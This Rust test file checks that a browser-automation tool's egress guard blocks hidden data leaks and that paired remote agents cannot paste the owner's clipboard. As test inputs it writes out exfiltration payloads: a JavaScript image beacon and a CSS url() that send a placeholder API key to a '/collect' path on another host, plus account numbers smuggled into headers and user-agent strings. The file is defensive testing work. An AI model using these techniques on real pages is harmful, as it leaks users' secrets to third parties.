//! Ways out that do not look like one: keys by their names, headers, the clipboard,
//! addresses without a scheme, windows that pages open.

use std::time::Duration;

use crate::{
    egress::{away, paired, world},
    project::{Project, eventually},
    site::Site,
};

#[test]
fn keys_are_looked_at_by_what_they_type() {
    let (project, site) = world("block");
    project.ok(&["goto", &away(&site, "/box")]);
    project.ok(&["click", "#q"]);
    // The bank account of the mail, by the names of its keys.
    let keys = "DE89370400440532013000".chars().map(|letter| match letter {
        '0'..='4' => format!("Digit{letter}"),
        '5'..='9' => format!("Numpad{letter}"),
        letter => format!("Shift+{letter}"),
    });
    let refused = keys.map(|key| project.run(&["--json", "press", &key])).find(|output| {
        assert!(output.code == Some(0) || output.code == Some(3), "{output:?}");
        output.code == Some(3)
    });
    let refused = refused.expect("a key is refused before the number is whole");
    assert!(refused.stdout.contains("EGRESS_DENIED"), "{refused:?}");
}

#[test]
fn what_goes_to_every_site_and_what_has_no_scheme_is_stopped() {
    let (project, site) = world("block");
    let account = "DE89370400440532013000";
    let key = "sk-live-9f8e7d6c5b4a39281706aabbccdd";
    let bare = |path: &str| away(&site, path).trim_start_matches("http:").to_owned();
    let script = format!("new Image().src = '{}'", bare(&format!("/collect?d={key}")));
    let picture = format!("url({})", bare(&format!("/collect?d={key}")));
    // On the site that it was read on as well: a header goes to all of them.
    for page in [site.url("/mail"), away(&site, "/box")] {
        project.ok(&["goto", &page]);
        for line in [
            &["header", &format!("x-a:{account}")] as &[&str],
            &["useragent", &format!("Mozilla {account}")],
            &["js", &script],
            &["style", "body", "background", &picture],
        ] {
            assert_eq!(project.fail(line).0, "EGRESS_DENIED", "{page} {line:?}");
        }
        for line in
            [&["header", "x-a:plain"] as &[&str], &["useragent", "Mozilla"], &["js", "'// note'"]]
        {
            project.ok(line);
        }
    }
}

#[test]
fn only_the_owner_pastes() {
    let (owner, site) = world("");
    let agent = paired(&owner, "laptop", &site);
    let remote = |args: &[&str]| agent.run(&[&["--json", "--remote", "laptop"], args].concat());
    owner.ok(&["goto", &away(&site, "/box")]);
    owner.ok(&["clipboard", "write", "a private word"]);
    assert_eq!(remote(&["goto", &away(&site, "/box")]).code, Some(0));
    assert_eq!(remote(&["click", "#q"]).code, Some(0));
    for line in
        [&["press", "Control+v"] as &[&str], &["press", "Shift+Insert"], &["press", "Paste"]]
    {
        let refused = remote(line);
        assert!(refused.stdout.contains("SCOPE_DENIED"), "{line:?}: {refused:?}");
    }
    let shown = eventually(Duration::from_secs(20), || {
        let output = remote(&["snapshot"]);
        if output.code == Some(0) { Ok(output.stdout) } else { Err(output) }
    });
    let shown = shown.expect("a snapshot");
    assert!(shown.contains("textbox") && !shown.contains("private"), "{shown}");
    owner.ok(&["click", "#q"]);
    owner.ok(&["press", "Control+v"]);
    assert!(owner.ok(&["get", "value", "#q"]).contains("a private word"));
}

#[test]
fn a_window_that_a_page_opens_is_not_the_tab_of_a_paired_agent() {
    let page = "<title>Own</title><button id=b>Go</button><script>\
        b.onclick = () => setTimeout(() => open('/other'), 300)</script>";
    let site = Site::serve(&[("/", page), ("/other", "<title>Other</title>")]);
    let owner = Project::new();
    let agent = paired(&owner, "laptop", &site);
    let remote = |args: &[&str]| agent.run(&[&["--remote", "laptop"], args].concat());
    assert_eq!(remote(&["goto", &site.url("/")]).code, Some(0));
    assert_eq!(remote(&["click", "#b"]).code, Some(0));
    let opened = eventually(Duration::from_secs(20), || {
        let output = remote(&["tabs"]);
        if output.stdout.contains("/other") { Ok(()) } else { Err(output) }
    });
    opened.expect("the window is there");
    let shown = eventually(Duration::from_secs(20), || {
        let output = remote(&["url"]);
        // Who asks too often is asked to wait.
        if output.code == Some(0) { Ok(output.stdout) } else { Err(output) }
    });
    let shown = shown.expect("the address of its tab");
    assert_eq!(shown.trim(), site.url("/"));
}
